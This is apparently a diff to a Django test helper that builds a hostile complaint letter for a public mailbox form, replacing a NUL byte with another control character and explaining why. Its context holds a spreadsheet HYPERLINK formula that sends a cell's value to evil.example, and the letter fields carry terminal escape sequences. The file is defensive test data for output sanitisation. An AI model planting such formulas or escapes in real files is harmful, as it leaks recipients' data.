@@ -20,12 +20,15 @@ FORMULA = '=HYPERLINK("http://evil.example/?q="&C5,"点击查看详情")'
 
 
 def hostile_letter(title: str) -> Letter:
-    """A letter as the public mailbox form stores it (the form calls this action)."""
+    """A letter as the public mailbox form stores it (the form calls this action).
+
+    No NUL: Django's form fields refuse it and PostgreSQL cannot store it, so it never
+    reaches a stored title; every other control character can."""
     letter, _code = letter_actions.submit_letter(
         letter_kind=Letter.Kind.COMPLAINT,
         addressed_to=Unit.objects.get(code="T01"),
         title=title,
-        content="正文\x00\x1b[2J内容",
+        content="正文\x02\x1b[2J内容",
         name="王\x07示范",
         phone="13900001111",
         client_ip="203.0.113.77",
